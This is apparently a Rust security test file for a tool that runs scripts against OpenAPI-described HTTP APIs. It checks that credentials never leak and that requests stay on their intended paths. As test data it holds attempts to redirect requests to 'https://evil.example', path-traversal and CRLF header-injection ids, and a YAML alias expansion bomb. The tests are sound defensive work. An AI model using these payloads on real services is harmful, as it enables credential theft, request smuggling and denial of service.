//! Hostile scripts and documents against an HTTP API: credentials stay with their origin and out of scripts, paths stay
//! where they are, whatever either says.

use serde_json::json;

use crate::{harness::Session, openapi::Site};

#[test]
fn a_script_never_sees_nor_moves_a_credential() {
    let site = Site::start();
    let mut session = Session::of(&[("pets", site.entry())], json!({}));
    // A server that echoes what it was sent gives nothing away.
    let echoed = session.client.execute("JSON.stringify(await pets.echo({ raw: true }))");
    assert!(echoed.contains("x-key") && !echoed.contains("k3y"), "{echoed}");
    // A document does not send it elsewhere.
    let refused = session.client.failing("await pets.away()");
    assert!(refused.contains("https://evil.example, which nobody has confirmed"), "{refused}");
    for attempt in [
        "await pets.list_pets({ 'X-Key': 'mine' })",
        "await pets.list_pets({ baseUrl: 'https://evil.example' })",
        "await pets['http://evil.example/']({})",
    ] {
        session.client.failing(attempt);
    }
    assert!(
        site.sent().iter().all(|sent| sent.headers["x-key"] == "k3y-0123456789" && sent.target == "/echo")
    );
}

#[test]
fn a_script_stays_on_the_path_of_its_operation() {
    let site = Site::start();
    let mut session = Session::of(&[("pets", site.entry())], json!({}));
    let tried = session.value(
        "const ids = ['..', '.', '', '../echo', '..%2fecho', '%2e%2e', 'a/b', 'a\\\\b', 'a\\r\\nX: y', '%252e%252e%252fecho'];
         return await Promise.all(ids.map(id => pets.get_pet({ id }).then(() => 'sent', e => e.code)))",
    );
    assert_eq!(tried, json!(vec!["invalid_arguments"; 10]));
    assert_eq!(site.sent().len(), 0);
    // What only looks odd is sent as what it is.
    session.client.execute("await pets.get_pet({ id: '..a?x=1#y' }).catch(e => e.message)");
    assert_eq!(site.sent()[0].target, "/pets/..a%3Fx%3D1%23y");
}

#[test]
fn a_document_that_cannot_be_used_costs_itself() {
    let folder = tempfile::tempdir().unwrap();
    let bomb = folder.path().join("bomb.yaml");
    let mut text = String::from("a0: &a0 [x, x, x, x, x, x, x, x]\n");
    for level in 1..12 {
        text += &format!("a{level}: &a{level} [{}]\n", [format!("*a{}", level - 1).as_str(); 8].join(", "));
    }
    std::fs::write(&bomb, text).unwrap();
    let site = Site::start();
    let bad = |document: &str| json!({"openapi": document, "baseUrl": site.url()});
    let upstreams = [
        ("bomb", bad(bomb.to_str().unwrap())),
        ("gone", bad("/nowhere/api.json")),
        ("nowhere", json!({"openapi": site.document()})),
        ("pets", site.entry()),
    ];
    let mut session = Session::of(&upstreams, json!({}));
    assert_eq!(session.value("(await pets.list_pets({ page: 3 })).length"), json!(2));
    let (_, text) = session.client.call("search", json!({"query": ""}));
    for (name, says) in
        [("bomb", "aliases unfold"), ("gone", "/nowhere/api.json"), ("nowhere", "`baseUrl` is missing")]
    {
        assert!(text.lines().any(|line| line.starts_with(name) && line.contains(says)), "{text}");
    }
}
